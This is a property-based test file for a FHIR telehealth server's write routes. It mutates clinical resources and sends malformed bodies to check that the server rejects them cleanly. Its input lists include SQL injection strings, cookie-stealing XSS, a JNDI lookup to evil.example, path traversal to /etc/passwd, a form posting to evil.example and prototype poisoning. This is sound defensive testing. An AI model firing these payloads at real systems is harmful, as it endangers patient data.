/**
 * Hostile input against the FHIR create, update and search routes, property-based.
 *
 * Every request must end in a 2xx or a 4xx OperationOutcome that says what is wrong (never a
 * 5xx, never a stack trace), and a rejected request must change nothing: the record tables,
 * resource_history, search_string, appointment_booking, document_blob and audit_event are
 * fingerprinted before and after each request. Accepted writes must read back as sent.
 *
 * Inputs that are invalid FHIR for certain (unknown fields, wrong JSON types, impossible dates,
 * empty values, missing required elements, codes outside required bindings, implausible vital
 * signs, malformed or oversized bodies, wrong content types) must be refused; inputs that may or
 * may not be valid (hostile but legal text, extreme numbers, edge-of-range dates, deep but legal
 * nesting) may go either way, but not 5xx.
 *
 * Knobs: FC_SEED (default fixed, so CI runs are reproducible), FC_RUNS (runs per property),
 * FHIR_HOSTILE_SURVEY=1 (do not stop at the first counterexample: run everything and print
 * every distinct violation found, grouped, with the smallest input that showed it).
 */
import fc from 'fast-check';
import { sql, type Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RESOURCE_TYPES } from '../src/records/resource-types.js';
import { STORE_KINDS, startTestNode, type TestNode } from '../src/test-support/test-node.js';

const SEED = Number(process.env.FC_SEED ?? 20261122);
const RUNS = Number(process.env.FC_RUNS ?? 200);
const SURVEY = process.env.FHIR_HOSTILE_SURVEY === '1';
const MAX_BODY = 1024 * 1024;

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type JsonObject = { [key: string]: Json };
type Expect = 'reject' | 'any';

// ---------------------------------------------------------------------------------------------
// Valid resources to start from (each is checked to be accepted as is, so the properties are not vacuous)
// ---------------------------------------------------------------------------------------------

const PATIENT_REF = 'Patient/5f2b3c4d-1e6f-4a7b-8c9d-0e1f2a3b4c5d';
const PRACTITIONER_REF = 'Practitioner/7c1c5e0e-1b8e-4d8a-9a57-3f0f6d1f2a10';
const LOINC = 'http://loinc.org';
const UCUM = 'http://unitsofmeasure.org';
const xhtml = (text: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${text}</div>`;

function template(type: string, slot = 0, who = '0b6d1c2e-8f4a-4c1e-b7d2-5a9e3f1c7d20'): JsonObject {
  switch (type) {
    case 'Patient':
      return {
        resourceType: 'Patient',
        identifier: [{ system: 'https://telesalud.org/fhir/sid/national-id', value: '1020304050' }],
        active: true,
        name: [{ use: 'official', family: 'Núñez Peña', given: ['José', 'María'] }],
        telecom: [{ system: 'phone', value: '+57 300 123 4567', use: 'mobile' }],
        gender: 'female',
        birthDate: '1985-04-12',
        address: [{ line: ['Calle 45 # 12-34'], city: 'Bogotá', country: 'CO' }],
      };
    case 'Practitioner':
      return { resourceType: 'Practitioner', active: true, name: [{ prefix: ['Dra.'], family: 'Gómez', given: ['Lucía'] }], gender: 'female' };
    case 'Organization':
      return { resourceType: 'Organization', active: true, name: 'Clínica San José de Cúcuta', alias: ['CSJ'] };
    case 'Location':
      return { resourceType: 'Location', status: 'active', name: 'Consultorio virtual', mode: 'instance' };
    case 'Slot':
      return { resourceType: 'Slot', schedule: { reference: 'Schedule/0b6d1c2e-8f4a-4c1e-b7d2-5a9e3f1c7d20' }, status: 'free', start: '2025-03-03T09:00:00-05:00', end: '2025-03-03T09:30:00-05:00' };
    case 'Appointment': {
      // A different time (and patient) per case, so valid ones don't collide on the no-double-booking rule.
      const start = Date.UTC(2030, 0, 1) + slot * 30 * 60_000;
      return {
        resourceType: 'Appointment',
        status: 'booked',
        description: 'Teleconsulta de control',
        start: new Date(start).toISOString(),
        end: new Date(start + 20 * 60_000).toISOString(),
        participant: [
          { actor: { reference: `Patient/${who}` }, required: 'required', status: 'accepted' },
          { actor: { reference: PRACTITIONER_REF }, required: 'required', status: 'accepted' },
        ],
      };
    }
    case 'Encounter':
      return {
        resourceType: 'Encounter',
        status: 'finished',
        class: { system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode', code: 'VR', display: 'virtual' },
        subject: { reference: PATIENT_REF },
        period: { start: '2025-03-03T09:00:00-05:00', end: '2025-03-03T09:20:00-05:00' },
      };
    case 'Observation':
      return {
        resourceType: 'Observation',
        status: 'final',
        category: [{ coding: [{ system: 'http://terminology.hl7.org/CodeSystem/observation-category', code: 'vital-signs' }] }],
        code: { coding: [{ system: LOINC, code: '8867-4', display: 'Heart rate' }], text: 'Frecuencia cardíaca' },
        subject: { reference: PATIENT_REF },
        effectiveDateTime: '2025-03-03T09:05:00-05:00',
        valueQuantity: { value: 72, unit: 'lpm', system: UCUM, code: '/min' },
      };
    case 'Condition':
      return {
        resourceType: 'Condition',
        clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'active' }] },
        code: { coding: [{ system: 'http://hl7.org/fhir/sid/icd-10', code: 'I10' }], text: 'Hipertensión arterial esencial' },
        subject: { reference: PATIENT_REF },
        recordedDate: '2025-03-03',
      };
    case 'AllergyIntolerance':
      return {
        resourceType: 'AllergyIntolerance',
        clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical', code: 'active' }] },
        type: 'allergy',
        criticality: 'high',
        code: { text: 'Penicilina' },
        patient: { reference: PATIENT_REF },
      };
    case 'MedicationRequest':
      return {
        resourceType: 'MedicationRequest',
        status: 'active',
        intent: 'order',
        medicationCodeableConcept: { text: 'Acetaminofén 500 mg tableta' },
        subject: { reference: PATIENT_REF },
        authoredOn: '2025-03-03T09:25:00-05:00',
        requester: { reference: PRACTITIONER_REF },
        dosageInstruction: [{ text: 'Una tableta cada 8 horas si hay dolor' }],
      };
    case 'Composition':
      return {
        resourceType: 'Composition',
        status: 'preliminary',
        type: { coding: [{ system: LOINC, code: '11506-3' }], text: 'Nota de evolución' },
        subject: { reference: PATIENT_REF },
        date: '2025-03-03T09:30:00-05:00',
        author: [{ reference: PRACTITIONER_REF }],
        title: 'Nota de evolución',
        section: [{ title: 'Subjetivo', text: { status: 'generated', div: xhtml('Refiere cefalea occipital.') } }],
      };
    default:
      throw new Error(`no template for ${type}`);
  }
}

const CREATE_TYPES = ['Patient', 'Practitioner', 'Organization', 'Location', 'Slot', 'Appointment', 'Encounter', 'Observation', 'Condition', 'AllergyIntolerance', 'MedicationRequest', 'Composition'];

/** Elements whose absence makes the resource invalid (R4 cardinality 1..). */
const REQUIRED: Record<string, string[][]> = {
  Observation: [['status'], ['code']],
  Appointment: [['status'], ['participant'], ['participant', '0', 'status']],
  Encounter: [['status'], ['class']],
  Slot: [['schedule'], ['status'], ['start'], ['end']],
  MedicationRequest: [['status'], ['intent'], ['subject'], ['medicationCodeableConcept']],
  Composition: [['status'], ['type'], ['date'], ['author'], ['title']],
  Condition: [['subject']],
  AllergyIntolerance: [['patient']],
};

/** Elements with a required code binding, for "a code outside the value set". */
const BOUND_CODES: Record<string, string[][]> = {
  // Datatypes carry required bindings too: ContactPoint.system/use, HumanName.use, Address.use.
  Patient: [['gender'], ['telecom', '0', 'system'], ['telecom', '0', 'use'], ['name', '0', 'use']],
  Practitioner: [['gender']],
  Location: [['status'], ['mode']],
  Slot: [['status']],
  Appointment: [['status'], ['participant', '0', 'status'], ['participant', '1', 'required']],
  Encounter: [['status']],
  Observation: [['status']],
  AllergyIntolerance: [['type'], ['criticality']],
  MedicationRequest: [['status'], ['intent']],
  Composition: [['status']],
};

// ---------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------

const HOSTILE_STRINGS = [
  "'; drop table patient; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  "1'; select pg_sleep(10); --",
  '$$; delete from audit_event; $$',
  "Robert'); DROP TABLE resource_history;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'a\u0000b',
  '\u0000',
  'x\u0001\u0007\u001b[31m\u001f',
  '\ud800',
  'tail\udfff',
  'x\ud83d',
  '\ufffe\uffff',
  '\u202eevil\u202c.pdf',
  '\u200b\u200c\u200d\u2060',
  'مرحبا بالعالم',
  'שלום עולם',
  '👩🏽‍⚕️🩺💉',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  'ǅǈǋ İı ß ﬁ',
  '\uFEFFbom',
  'line\u2028sep\u2029para',
  '%00%27%22',
  '%',
  '\\',
  '\\,a,b\\,',
  '|',
  'a|b|c',
  '   ',
  ' padded ',
  '\t\r\n',
  '',
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 2, maxLength: 5 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', 'ñ', '😀', '<', "'"), fc.integer({ min: 1_000, max: 200_000 })).map(([c, n]) => c.repeat(n)) },
);

/** Certainly not a valid FHIR date, dateTime or instant. */
const BAD_DATES = [
  '2024-02-30',
  '2023-02-29',
  '2024-04-31',
  '2024-13-01',
  '2024-00-10',
  '2024-01-00',
  '2024-01-32',
  '24-01-01',
  '2024-1-1',
  '2024/01/01',
  '01/02/2024',
  '2024-01-01T25:00:00Z',
  '2024-01-01T10:60:00Z',
  '2024-01-01T10:00:61Z',
  '2024-02-30T10:00:00Z',
  '2024-01-01T10:00:00',
  '2024-01-01T10:00Z',
  '2024-01-01T10:00:00+25:00',
  '2024-01-01 10:00:00+00:00',
  '2024-01-01T10:00:00.Z',
  'yesterday',
  'NaN',
  ' 2024-01-01',
  '2024-01-01 ',
  '+02024-01-01',
  '２０２４-01-01',
  '0000-01-01',
];
/** Legal but at the edges of what dates and timestamps can hold. */
const EDGE_DATES = [
  '0001-01-01',
  '0001-01-01T00:00:00+14:00',
  '0001-01-01T00:00:00Z',
  '0024-06-15',
  '1000',
  '9999',
  '9999-12',
  '9999-12-31',
  '9999-12-31T23:59:59-12:00',
  '9999-12-31T23:59:59Z',
  '1582-10-10',
  '1900-01-01T00:00:00.123456789Z',
  '2016-12-31T23:59:60Z',
  '2024-02-29',
  '1970-01-01T00:00:00Z',
];

const EXTREME_NUMBERS = [0, -0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1, 1e21, 0.1 + 0.2, 123456789012345678901234567890, 72.000000001];
/** Number literals that JSON allows but doubles can't hold. */
const NUMBER_LITERALS = ['1e400', '-1e400', `1${'0'.repeat(400)}`, `0.${'0'.repeat(400)}1`, '1E+2', '-0.0', '72.000000000000000000001'];

const UNKNOWN_KEYS = ['foo', 'isAdmin', '$where', 'toString', 'valueOf', 'hasOwnProperty', 'constructor', '__defineGetter__', 'nameX', 'Name', 'resourcetype', 'gender ', 'x'.repeat(300), '👀', ''];

// ---------------------------------------------------------------------------------------------
// Mutations of valid resources
// ---------------------------------------------------------------------------------------------

type Segment = string | number;
interface Node {
  path: Segment[];
  value: Json;
  key: Segment;
}

function nodes(value: Json, path: Segment[] = []): Node[] {
  const out: Node[] = [];
  const visit = (v: Json, p: Segment[]) => {
    if (Array.isArray(v)) v.forEach((child, i) => (out.push({ path: [...p, i], value: child, key: i }), visit(child, [...p, i])));
    else if (v !== null && typeof v === 'object') for (const [k, child] of Object.entries(v)) (out.push({ path: [...p, k], value: child, key: k }), visit(child, [...p, k]));
  };
  visit(value, path);
  return out;
}

function parentOf(root: JsonObject, path: Segment[]): any {
  let node: any = root;
  for (const s of path.slice(0, -1)) node = node?.[s];
  return node;
}

function setAt(root: JsonObject, path: Segment[], value: Json): void {
  const parent = parentOf(root, path);
  const key = path[path.length - 1]!;
  if (parent !== null && typeof parent === 'object') defineOwn(parent, key, value);
}

/** Own property even for "__proto__", like JSON.parse makes it. */
function defineOwn(target: any, key: Segment, value: Json): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function deleteAt(root: JsonObject, path: Segment[]): void {
  const parent = parentOf(root, path);
  const key = path[path.length - 1]!;
  if (Array.isArray(parent)) parent.splice(Number(key), 1);
  else if (parent && typeof parent === 'object') delete parent[key];
}

const pick = <T>(items: T[], n: number): T | undefined => (items.length ? items[n % items.length] : undefined);
const isDateKey = (key: Segment) => typeof key === 'string' && /^(birthDate|start|end|date|time|recordedDate|authoredOn|issued|effectiveDateTime|onsetDateTime|deceasedDateTime|value(Date|DateTime|Instant))$/.test(key);

type Mutation =
  | { kind: 'drop'; n: number }
  | { kind: 'hostile-string'; n: number; value: string }
  | { kind: 'extreme-number'; n: number; value: number }
  | { kind: 'duplicate-item'; n: number }
  | { kind: 'edge-date'; n: number; value: string }
  | { kind: 'deep-legal-extension'; depth: number }
  | { kind: 'unknown-field'; n: number; key: string; value: Json }
  | { kind: 'wrong-type'; n: number; variant: number }
  | { kind: 'bad-date'; n: number; value: string }
  | { kind: 'drop-required'; n: number }
  | { kind: 'bad-code'; n: number; value: string }
  | { kind: 'empty-value'; n: number }
  | { kind: 'null-value'; n: number }
  | { kind: 'deep-unknown'; depth: number }
  | { kind: 'script-narrative'; variant: number }
  | { kind: 'impossible'; variant: number };

/** Mutations after which the resource may or may not still be valid. */
const neutralMutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('drop' as const), n: fc.nat() }),
  fc.record({ kind: fc.constant('hostile-string' as const), n: fc.nat(), value: hostileString }),
  fc.record({ kind: fc.constant('extreme-number' as const), n: fc.nat(), value: fc.oneof(fc.constantFrom(...EXTREME_NUMBERS), fc.double({ noNaN: true, noDefaultInfinity: true })) }),
  fc.record({ kind: fc.constant('duplicate-item' as const), n: fc.nat() }),
  fc.record({ kind: fc.constant('edge-date' as const), n: fc.nat(), value: fc.constantFrom(...EDGE_DATES) }),
  fc.record({ kind: fc.constant('deep-legal-extension' as const), depth: fc.oneof(fc.integer({ min: 1, max: 50 }), fc.integer({ min: 500, max: 4000 })) }),
);

/** Mutations after which the resource is certainly invalid. Applied last, so nothing undoes them. */
const invalidMutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('unknown-field' as const), n: fc.nat(), key: fc.constantFrom(...UNKNOWN_KEYS), value: fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json> }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('wrong-type' as const), n: fc.nat(), variant: fc.nat() }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('bad-date' as const), n: fc.nat(), value: fc.constantFrom(...BAD_DATES) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('drop-required' as const), n: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('bad-code' as const), n: fc.nat(), value: fc.oneof(fc.constantFrom('banana', 'FINAL', 'Female', 'final ', "booked' --"), hostileString.filter((s) => s.length < 100)) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('empty-value' as const), n: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('null-value' as const), n: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('deep-unknown' as const), depth: fc.oneof(fc.integer({ min: 1, max: 100 }), fc.integer({ min: 1000, max: 60_000 })) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('script-narrative' as const), variant: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('impossible' as const), variant: fc.nat() }) },
);

function describeMutation(m: Mutation): string {
  if ('depth' in m) return `${m.kind}(${m.depth})`;
  if (m.kind === 'bad-date' || m.kind === 'edge-date' || m.kind === 'bad-code') return `${m.kind}(${m.value})`;
  return m.kind;
}

// Deep structures are spliced in as text: JSON.stringify (and any recursive walk) of thousands of levels overflows the stack.
const nestedExtension = (depth: number): Json => `__DEEP_EXT_${depth}__`;
const nestedArrays = (depth: number): Json => `__DEEP_ARR_${depth}__`;

function expandDeep(text: string): string {
  return text.replace(/"__DEEP_(EXT|ARR)_(\d+)__"/g, (_m, kind: string, n: string) => {
    const depth = Number(n);
    if (kind === 'ARR') return '['.repeat(depth) + ']'.repeat(depth);
    const open = '{"url":"https://telesalud.org/fhir/StructureDefinition/x","extension":['.repeat(depth);
    return `${open}{"url":"https://telesalud.org/fhir/StructureDefinition/x","valueString":"y"}${']}'.repeat(depth)}`;
  });
}

/** Applies `m` to `r` in place. Paths never touch resourceType (that is a different test: a type mismatch). */
function applyMutation(r: JsonObject, m: Mutation): void {
  const all = nodes(r).filter((n) => n.path[0] !== 'resourceType' && n.path[0] !== 'id');
  const leaves = all.filter((n) => n.value === null || typeof n.value !== 'object');
  const objects = [{ path: [] as Segment[], value: r as Json, key: '' as Segment }, ...all.filter((n) => n.value !== null && typeof n.value === 'object' && !Array.isArray(n.value))];
  switch (m.kind) {
    case 'drop': {
      const target = pick(all, m.n);
      if (target) deleteAt(r, target.path);
      return;
    }
    case 'hostile-string': {
      const target = pick(leaves.filter((n) => typeof n.value === 'string'), m.n);
      if (target) setAt(r, target.path, m.value);
      return;
    }
    case 'extreme-number': {
      const target = pick(leaves.filter((n) => typeof n.value === 'number'), m.n);
      if (target) setAt(r, target.path, m.value);
      else defineOwn(r, 'extension', [{ url: 'https://telesalud.org/fhir/StructureDefinition/n', valueDecimal: m.value }]);
      return;
    }
    case 'duplicate-item': {
      const target = pick(all.filter((n) => Array.isArray(n.value) && n.value.length > 0), m.n);
      if (target) (target.value as Json[]).push(structuredClone((target.value as Json[])[0]!));
      return;
    }
    case 'edge-date': {
      const target = pick(leaves.filter((n) => isDateKey(n.key)), m.n);
      if (target) setAt(r, target.path, m.value);
      else defineOwn(r, 'extension', [{ url: 'https://telesalud.org/fhir/StructureDefinition/d', valueDateTime: m.value }]);
      return;
    }
    case 'deep-legal-extension':
      defineOwn(r, 'extension', [nestedExtension(m.depth)]);
      return;
    case 'unknown-field': {
      const target = pick(objects, m.n)!;
      defineOwn(target.value, m.key, m.value);
      return;
    }
    case 'wrong-type': {
      const target = pick(leaves.filter((n) => n.value !== null), m.n);
      if (!target) return defineOwn(r, 'active', 'yes');
      const v = target.value;
      const others: Json[] =
        typeof v === 'string' ? [42, true, { value: v }, [v], -1.5] : typeof v === 'number' ? [String(v), true, [v], { value: v }] : [String(v), v ? 1 : 0, [v], { value: v }];
      setAt(r, target.path, others[m.variant % others.length]!);
      return;
    }
    case 'bad-date': {
      const target = pick(leaves.filter((n) => isDateKey(n.key) && typeof n.value === 'string'), m.n);
      if (target) setAt(r, target.path, m.value);
      else defineOwn(r, 'extension', [{ url: 'https://telesalud.org/fhir/StructureDefinition/d', valueDateTime: m.value }]);
      return;
    }
    case 'drop-required': {
      const path = pick(REQUIRED[r.resourceType as string] ?? [], m.n);
      if (path && parentOf(r, path) !== undefined) deleteAt(r, path);
      else defineOwn(r, 'extension', [{ url: 'https://telesalud.org/fhir/StructureDefinition/no-value' }]); // ext-1: needs a value or extensions
      return;
    }
    case 'bad-code': {
      const path = pick(BOUND_CODES[r.resourceType as string] ?? [], m.n);
      if (path && parentOf(r, path) !== undefined && typeof parentOf(r, path) === 'object') setAt(r, path, m.value);
      else defineOwn(r, 'text', { status: m.value, div: xhtml('x') }); // Narrative.status: required binding (generated | extensions | additional | empty)
      return;
    }
    case 'empty-value': {
      // FHIR JSON: "empty strings, arrays and objects are not allowed".
      const target = pick(all, m.n);
      if (!target) return defineOwn(r, 'identifier', []);
      const v = target.value;
      setAt(r, target.path, typeof v === 'string' ? '' : Array.isArray(v) ? [] : v !== null && typeof v === 'object' ? {} : '');
      return;
    }
    case 'null-value': {
      const target = pick(all, m.n);
      if (target) setAt(r, target.path, null);
      else defineOwn(r, 'active', null);
      return;
    }
    case 'deep-unknown':
      defineOwn(r, 'nesting', nestedArrays(m.depth));
      return;
    case 'script-narrative': {
      // txt-1: a narrative holds only basic, inert XHTML: no scripts, event handlers or forms.
      const divs = [
        xhtml('<script>alert(1)</script>'),
        xhtml('<img src="x" onerror="alert(1)"/>'),
        xhtml('<iframe src="https://evil.example"></iframe>'),
        xhtml('<form action="https://evil.example"><input name="p"/></form>'),
        '<p>not a div</p>',
        '<div>no namespace</div>',
        xhtml('<b>unclosed'),
      ];
      defineOwn(r, 'text', { status: 'generated', div: divs[m.variant % divs.length]! });
      return;
    }
    case 'impossible':
      applyImpossible(r, m.variant);
      return;
  }
}

/** Values that type-check but can not be true. */
function applyImpossible(r: JsonObject, variant: number): void {
  // Every field the rule depends on is set here, so earlier mutations can't make the value possible again.
  const type = r.resourceType;
  if (type === 'Observation') {
    const q = [
      { value: 900, unit: 'lpm', system: UCUM, code: '/min' },
      { value: -5, unit: 'lpm', system: UCUM, code: '/min' },
      { value: 1e308, unit: 'lpm', system: UCUM, code: '/min' },
      { value: 72, unit: 'kg', system: UCUM, code: 'kg' },
    ][variant % 4]!;
    defineOwn(r, 'code', { coding: [{ system: LOINC, code: '8867-4', display: 'Heart rate' }] });
    defineOwn(r, 'valueQuantity', q);
    return;
  }
  if (type === 'Appointment' || type === 'Slot') {
    // Ends before (or when) it starts.
    defineOwn(r, 'start', '2031-05-05T10:00:00Z');
    defineOwn(r, 'end', variant % 2 ? '2031-05-05T10:00:00Z' : '2031-05-05T09:00:00Z');
    return;
  }
  if (type === 'Encounter') {
    defineOwn(r, 'period', { start: '2025-03-03T10:00:00-05:00', end: '2025-03-03T09:00:00-05:00' }); // per-1: start <= end
    return;
  }
  // per-1: a Period ends after it starts (here inside an extension, which every resource may carry).
  defineOwn(r, 'extension', [{ url: 'https://telesalud.org/fhir/StructureDefinition/p', valuePeriod: { start: '2025-03-03', end: '2024-03-03' } }]);
}

// ---------------------------------------------------------------------------------------------
// Write cases: what is sent and whether it must be refused
// ---------------------------------------------------------------------------------------------

interface WriteCase {
  label: string;
  type: string;
  /** Exact body; "__ID__" is replaced by the target's id (updates). */
  payload: string | Buffer | undefined;
  contentType: string | undefined;
  expect: Expect;
}

const printable = (c: object) =>
  JSON.stringify(c, (_k, v) => (typeof v === 'string' && v.length > 600 ? `${v.slice(0, 300)}…(${v.length} chars)…${v.slice(-100)}` : Buffer.isBuffer(v) ? `<Buffer ${v.length} bytes>` : v));

function writeCase(label: string, type: string, payload: string | Buffer | undefined, contentType: string | undefined, expect: Expect): WriteCase {
  return Object.assign({ label, type, payload, contentType, expect }, { [fc.toStringMethod]: () => printable({ label, type, payload, contentType, expect }) });
}

const FHIR_JSON = 'application/fhir+json';

/** Bodies built by mutating a valid resource: zero to three mutations that may keep it valid, then maybe one that certainly doesn't. */
const mutatedResource = (types: string[], withId: boolean) =>
  fc
    .record({
      type: fc.constantFrom(...types),
      slot: fc.nat({ max: 2_000_000 }),
      who: fc.uuid({ version: 4 }),
      neutral: fc.array(neutralMutation, { maxLength: 3 }),
      invalid: fc.option(invalidMutation, { freq: 2 }),
      contentType: fc.constantFrom(FHIR_JSON, 'application/json', 'application/fhir+json; charset=utf-8', 'application/json; charset=UTF-8'),
    })
    .map(({ type, slot, who, neutral, invalid, contentType }) => {
      const r = template(type, slot, who);
      if (withId) r.id = '__ID__';
      for (const m of neutral) applyMutation(r, m);
      if (invalid) applyMutation(r, invalid);
      const label = [...neutral.map(describeMutation), ...(invalid ? [`!${describeMutation(invalid)}`] : [])].join('+') || 'valid';
      return writeCase(label, type, expandDeep(JSON.stringify(r)), contentType, invalid ? 'reject' : 'any');
    });

function validBody(type: string, withId: boolean, slot = 1): JsonObject {
  const r = template(type, slot);
  if (withId) r.id = '__ID__';
  return r;
}

const REJECTED_CONTENT_TYPES = ['text/plain', 'application/xml', 'application/fhir+xml', 'text/html', 'multipart/form-data; boundary=xyz', 'application/x-www-form-urlencoded', 'application/octet-stream', 'image/png', 'application/javascript'];

/** Bodies that are broken as bytes or as JSON, or sent as something else. */
const rawBody = (types: string[], withId: boolean) =>
  fc.oneof(
    fc.tuple(fc.constantFrom(...types), fc.nat()).map(([type, n]) => {
      const text = JSON.stringify(validBody(type, withId));
      return writeCase('truncated JSON', type, text.slice(0, n % (text.length - 1)), FHIR_JSON, 'reject');
    }),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom(',', '}', ']', 'x', '{}', '\u0000', 'null', '//c', '/*c*/', ',"a":1}')).map(([type, tail]) =>
      writeCase('trailing garbage', type, JSON.stringify(validBody(type, withId)) + tail, FHIR_JSON, 'reject'),
    ),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom("{'resourceType':'Patient'}", '{resourceType:"Patient"}', '{"resourceType":"Patient",}', '{"resourceType":"Patient" "active":true}', '{"active":NaN}', '{"active":Infinity}', '{"a":undefined}', '{"a":0x10}', '{"a":01}', '{"a":"\\x41"}', '{"a":"\\uZZZZ"}', '{"a":"\t"}', '\u0000', '{', '[', '"', ' ')).map(
      ([type, text]) => writeCase('invalid JSON', type, text, FHIR_JSON, 'reject'),
    ),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom(...REJECTED_CONTENT_TYPES, undefined)).map(([type, ct]) =>
      writeCase('wrong content type', type, JSON.stringify(validBody(type, withId)), ct, 'reject'),
    ),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom(FHIR_JSON, 'application/json', undefined)).map(([type, ct]) => writeCase('empty body', type, ct === undefined ? undefined : '', ct, 'reject')),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom('null', '[]', '42', '-0', '"Patient"', 'true', '{}')).map(([type, text]) => writeCase('not an object', type, text, FHIR_JSON, 'reject')),
    fc.constantFrom(...types).map((type) => writeCase('array of resources', type, JSON.stringify([validBody(type, withId)]), FHIR_JSON, 'reject')),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom('__proto__', 'constructor'), fc.boolean()).map(([type, key, nested]) => {
      const poison = key === '__proto__' ? '{"isAdmin":true,"toString":"x"}' : '{"prototype":{"isAdmin":true}}';
      const text = JSON.stringify(validBody(type, withId));
      const body = nested ? text.replace(/\{"/, `{"meta":{"${key}":${poison}},"`) : `${text.slice(0, -1)},"${key}":${poison}}`;
      return writeCase('prototype poisoning', type, body, FHIR_JSON, 'reject');
    }),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom(...NUMBER_LITERALS)).map(([type, literal]) => {
      const r = validBody(type, withId);
      r.extension = [{ url: 'https://telesalud.org/fhir/StructureDefinition/n', valueDecimal: 7 }];
      return writeCase('number literal', type, JSON.stringify(r).replace('"valueDecimal":7', `"valueDecimal":${literal}`), FHIR_JSON, 'any');
    }),
    fc.tuple(fc.constantFrom(...types), fc.uint8Array({ minLength: 1, maxLength: 8 })).map(([type, bytes]) => {
      const text = JSON.stringify({ ...validBody(type, withId), extension: [{ url: 'https://telesalud.org/fhir/StructureDefinition/s', valueString: 'XX' }] });
      const [before, after] = text.split('XX') as [string, string];
      return writeCase('raw bytes in a string', type, Buffer.concat([Buffer.from(before), Buffer.from([...bytes].map((b) => (b === 0x22 || b === 0x5c ? 0xff : b))), Buffer.from(after)]), FHIR_JSON, 'any');
    }),
    fc.constantFrom(...types).map((type) => writeCase('byte order mark', type, `\uFEFF${JSON.stringify(validBody(type, withId))}`, FHIR_JSON, 'any')),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom('  ', '\n', '\r\n\t ')).map(([type, ws]) => writeCase('surrounding whitespace', type, `${ws}${JSON.stringify(validBody(type, withId))}${ws}`, FHIR_JSON, 'any')),
    fc.tuple(fc.constantFrom(...types), fc.integer({ min: 1, max: 200_000 })).map(([type, extra]) => {
      const r = validBody(type, withId);
      const base = JSON.stringify({ ...r, extension: [{ url: 'https://telesalud.org/fhir/StructureDefinition/s', valueString: '' }] }).length;
      r.extension = [{ url: 'https://telesalud.org/fhir/StructureDefinition/s', valueString: 'x'.repeat(MAX_BODY - base + extra) }];
      return writeCase('oversized body', type, JSON.stringify(r), FHIR_JSON, 'reject');
    }),
    fc.tuple(fc.constantFrom(...types), fc.integer({ min: 0, max: 4000 })).map(([type, below]) => {
      const r = validBody(type, withId);
      const base = JSON.stringify({ ...r, extension: [{ url: 'https://telesalud.org/fhir/StructureDefinition/s', valueString: '' }] }).length;
      r.extension = [{ url: 'https://telesalud.org/fhir/StructureDefinition/s', valueString: 'y'.repeat(MAX_BODY - base - below) }];
      return writeCase('body at the size limit', type, JSON.stringify(r), FHIR_JSON, 'any');
    }),
    fc.tuple(fc.constantFrom(...types), fc.jsonValue({ maxDepth: 4 })).map(([type, v]) =>
      writeCase('arbitrary JSON', type, JSON.stringify(v), FHIR_JSON, v !== null && typeof v === 'object' && !Array.isArray(v) && (v as JsonObject).resourceType === type ? 'any' : 'reject'),
    ),
    fc.tuple(fc.constantFrom(...types), fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...UNKNOWN_KEYS)), fc.jsonValue({ maxDepth: 3 }), { minKeys: 1, maxKeys: 6 })).map(([type, extra]) =>
      writeCase('random fields', type, JSON.stringify({ ...extra, resourceType: type, ...(withId ? { id: '__ID__' } : {}) }), FHIR_JSON, 'any'),
    ),
    fc.tuple(fc.constantFrom(...types), fc.constantFrom(...types, 'Binary', 'Bundle', 'OperationOutcome', 'patient', 'Patient ', '', 'Nope')).filter(([a, b]) => a !== b).map(([type, other]) => {
      const r = validBody(type, withId);
      r.resourceType = other;
      return writeCase('resourceType differs from the URL', type, JSON.stringify(r), FHIR_JSON, 'reject');
    }),
    fc.constantFrom(...types).map((type) => {
      const text = JSON.stringify(validBody(type, withId));
      return writeCase('duplicate keys', type, `{"resourceType":"${type}",${text.slice(1)}`, FHIR_JSON, 'any');
    }),
  );

